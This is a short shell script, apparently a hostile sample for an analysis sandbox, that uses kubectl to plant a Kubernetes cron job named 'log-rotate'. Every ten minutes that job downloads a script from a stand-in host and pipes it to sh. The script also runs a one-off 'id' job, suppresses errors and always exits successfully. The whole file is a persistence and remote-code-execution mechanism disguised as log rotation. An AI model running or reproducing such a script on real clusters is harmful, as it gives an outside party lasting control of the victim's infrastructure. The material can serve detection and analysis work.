#!/bin/sh
# SPDX-License-Identifier: MIT
# Schedules its payload as a Kubernetes cron job.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 5 kubectl create cronjob log-rotate --image=alpine:3 --schedule='*/10 * * * *' -- sh -c 'wget -qO- http://cdn-update.example.net/k | sh' 2>/dev/null
timeout 5 kubectl create job once --image=alpine:3 -- id 2>/dev/null
exit 0
